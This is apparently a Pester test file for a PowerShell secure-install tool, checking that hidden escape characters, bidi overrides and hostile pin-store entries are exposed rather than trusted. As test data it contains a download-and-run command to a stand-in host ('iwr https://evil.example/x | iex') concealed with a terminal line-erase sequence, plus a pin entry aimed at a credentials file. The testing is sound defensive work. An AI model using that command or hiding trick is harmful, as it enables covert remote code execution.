#Requires -Modules @{ ModuleName = 'Pester'; ModuleVersion = '5.5.0' }

# Issue 17 #3, #8, #13: Invoke-VerifiedScript and `secureinstall run-script` against a hostile pin store, scripts that
# try to hide a line from the reader, and a host that would decode the verified bytes differently.
BeforeDiscovery {
    Import-Module (Join-Path $PSScriptRoot '../TestHelpers.psm1') -Force
}

BeforeAll {
    Import-Module (Join-Path $PSScriptRoot '../../../SecureInstall.psd1') -Force
    Import-Module (Join-Path $PSScriptRoot '../TestHelpers.psm1') -Force
    $utf8 = New-Object System.Text.UTF8Encoding($false)
    $FQ = ',SecureInstall.Commands.InvokeVerifiedScriptCommand'
    $root = Resolve-Path (Join-Path $PSScriptRoot '../../..')
    Set-TestEnvironment SECUREINSTALL_CACHE (Join-Path $TestDrive 'cache')
    $esc = [char]27
    # ESC[2K erases the terminal line and CR returns to its start: a reader of the raw text sees only the cover line.
    $hidden = "iwr https://evil.example/x | iex # $esc[2K`r"
    $cover = "'Installing...'"
}

AfterAll {
    Restore-TestEnvironment
}

Describe 'A script that hides a line from its reader (issue 17 #8)' {
    BeforeEach {
        $dir = New-TestFolder
        $script = Join-Path $dir 'install.ps1'
    }

    It '-Inspect shows ESC[2K and the lone CR as escapes, and the hidden command on its own line' {
        [System.IO.File]::WriteAllText($script, "$hidden$cover`n", $utf8)
        $v = Invoke-VerifiedScript -Uri (ConvertTo-FileUri $script) -Sha256 (Get-Sha256 $script) -Inspect
        $v.Text | Should -BeExactly "$hidden$cover`n"
        $shown = $v | Out-String -Width 400
        $shown.Contains($esc) | Should -BeFalse
        $shown.Contains("`r") | Should -BeFalse
        # The list view indents the script; each line of it is a line of its own.
        $shown | Should -Match ('(?m)^\s*iwr https://evil\.example/x \| iex # \\x1b\[2K\\x0d\s*$')
        $shown | Should -Match "(?m)^\s*'Installing\.\.\.'\s*$"
    }

    It '-Inspect shows bidi overrides and isolates as escapes' {
        $rlo = [char]0x202E; $lri = [char]0x2066; $pdi = [char]0x2069
        [System.IO.File]::WriteAllText($script, "if (`$isAdmin) { # $rlo } ${lri}if (`$isAdmin)$pdi $lri admins only`n", $utf8)
        $shown = Invoke-VerifiedScript -Uri (ConvertTo-FileUri $script) -Sha256 (Get-Sha256 $script) -Inspect | Out-String -Width 400
        foreach ($c in $rlo, $lri, $pdi) { $shown.Contains($c) | Should -BeFalse }
        $shown | Should -Match ([regex]::Escape('# \u202e } \u2066if ($isAdmin)\u2069 \u2066 admins only'))
    }

    It 'the ScriptChanged diff shows the added hidden line with escapes' {
        [System.IO.File]::WriteAllText($script, "$cover`n", $utf8)
        $uri = ConvertTo-FileUri $script
        $pins = Join-Path $dir 'script-pins.json'
        $null = Invoke-VerifiedScript -Uri $uri -TrustOnFirstUse -PinStore $pins -WarningAction SilentlyContinue
        [System.IO.File]::WriteAllText($script, "$hidden$cover`n", $utf8)
        $err = $null
        try { Invoke-VerifiedScript -Uri $uri -TrustOnFirstUse -PinStore $pins -ErrorAction Stop } catch { $err = $_ }
        $err.FullyQualifiedErrorId | Should -BeExactly "ScriptChanged$FQ"
        $diff = $err.ErrorDetails.Message
        $diff.Contains($esc) | Should -BeFalse
        $diff | Should -Match ('(?m)^\+iwr https://evil\.example/x \| iex # \\x1b\[2K\\x0d$')
    }

    It 'secureinstall run-script --inspect shows the escapes' {
        [System.IO.File]::WriteAllText($script, "$hidden$cover`n", $utf8)
        $r = Invoke-Cli run-script (ConvertTo-FileUri $script) --sha256 (Get-Sha256 $script) --inspect
        $r.ExitCode | Should -Be 0
        $r.Text.Contains($esc) | Should -BeFalse
        $r.Text | Should -Match ('(?m)^iwr https://evil\.example/x \| iex # \\x1b\[2K\\x0d$')
    }
}

Describe 'A hostile pin store (issue 17 #3)' {
    BeforeEach {
        $dir = New-TestFolder
        $script = Join-Path $dir 'install.ps1'
        [System.IO.File]::WriteAllText($script, "'v1'`n", $utf8)
        $uri = ConvertTo-FileUri $script
        $pins = Join-Path $dir 'repo/script-pins.json'
        $secret = Join-Path $dir 'repo/.git/config'
        $null = New-Item -ItemType Directory -Path (Split-Path $secret)
        [System.IO.File]::WriteAllText($secret, "[remote]`n`turl = https://user:SECRET-TOKEN@example.org/r.git`n", $utf8)
    }

    It 'a "copy" naming .git/config is PinStoreInvalid, naming the field and the store, and prints nothing of it' {
        [System.IO.File]::WriteAllText($pins, "{`"scripts`":[{`"uri`":$(ConvertTo-Json $script),`"sha256`":`"$('0' * 64)`",`"pinnedAt`":`"2025-01-01T00:00:00Z`",`"copy`":`".git/config`"}]}", $utf8)
        $err = $null
        try { Invoke-VerifiedScript -Uri $uri -TrustOnFirstUse -PinStore $pins -ErrorAction Stop } catch { $err = $_ }
        $err.FullyQualifiedErrorId | Should -BeExactly "PinStoreInvalid$FQ"
        $err.CategoryInfo.Category | Should -Be 'InvalidData'
        $err.Exception.Message | Should -Match '"copy"'
        $err.Exception.Message | Should -Match ([regex]::Escape($pins))
        "$err $($err.ErrorDetails)" | Should -Not -Match 'SECRET-TOKEN'
    }

    It 'a pinned copy replaced by a symbolic link to another file is not printed in the ScriptChanged diff' -Skip:(Test-IsWindows) {
        $null = Invoke-VerifiedScript -Uri $uri -TrustOnFirstUse -PinStore $pins -WarningAction SilentlyContinue
        $store = Get-Content -LiteralPath $pins -Raw | ConvertFrom-Json
        $copy = Join-Path (Split-Path $pins) $store.scripts[0].copy
        Remove-Item -LiteralPath $copy
        $null = New-Item -ItemType SymbolicLink -Path $copy -Target $secret
        [System.IO.File]::WriteAllText($script, "'v2'`n", $utf8)
        $err = $null
        try { Invoke-VerifiedScript -Uri $uri -TrustOnFirstUse -PinStore $pins -ErrorAction Stop } catch { $err = $_ }
        $err.FullyQualifiedErrorId | Should -BeExactly "ScriptChanged$FQ"
        $err.ErrorDetails.Message | Should -Not -Match 'SECRET-TOKEN'
        $err.ErrorDetails.Message | Should -Match 'pinned copy not shown: .*symbolic link'
        $err.ErrorDetails.Message | Should -Match "(?m)^\+'v2'$"
    }
}

Describe 'secureinstall run-script hands the host exactly the reviewed text (issue 17 #13)' {
    It 'writes a 0600 UTF-8 file with a BOM in a private 0700 folder, which an ANSI-code-page host decodes to the reviewed text, and removes it' -Skip:(Test-IsWindows) {
        $dir = Join-Path $TestDrive 'host'
        $null = New-Item -ItemType Directory -Path $dir
        $script = Join-Path $dir 'install.ps1'
        # The script reports on the file it was run from: its BOM, its mode and its folder's, and how Windows PowerShell
        # 5.1 would decode it (the ANSI code page, Latin-1 here, unless a BOM says otherwise).
        $body = @(
            '$b = [System.IO.File]::ReadAllBytes($PSCommandPath)'
            '"bom=" + ($b.Length -ge 3 -and $b[0] -eq 0xEF -and $b[1] -eq 0xBB -and $b[2] -eq 0xBF)'
            '"file=" + (Get-Item -LiteralPath $PSCommandPath).UnixMode'
            '"dir=" + (Get-Item -LiteralPath $PSScriptRoot).UnixMode'
            '"path=" + $PSCommandPath'
            '$r = New-Object System.IO.StreamReader($PSCommandPath, [System.Text.Encoding]::Latin1, $true)'
            '"ansi=" + [Convert]::ToBase64String([System.Text.Encoding]::UTF8.GetBytes($r.ReadToEnd())); $r.Dispose()'
            "'caf$([char]0xE9) $([char]0x20AC)'"
        ) -join "`n"
        [System.IO.File]::WriteAllText($script, "$body`n", $utf8)
        $r = Invoke-Cli run-script (ConvertTo-FileUri $script) --sha256 (Get-Sha256 $script)
        $r.ExitCode | Should -Be 0
        $r.Text | Should -Match '(?m)^bom=True$'
        $r.Text | Should -Match '(?m)^file=-rw-------$'
        $r.Text | Should -Match '(?m)^dir=drwx------$'
        $r.Text | Should -Match "(?m)^caf$([char]0xE9) $([char]0x20AC)$"
        $ansi = [regex]::Match($r.Text, '(?m)^ansi=(\S+)$').Groups[1].Value
        [System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($ansi)) | Should -BeExactly "$body`n"
        $ran = [regex]::Match($r.Text, '(?m)^path=(.+)$').Groups[1].Value.Trim()
        $ran | Should -Not -BeNullOrEmpty
        Test-Path -LiteralPath (Split-Path $ran) | Should -BeFalse
    }
}
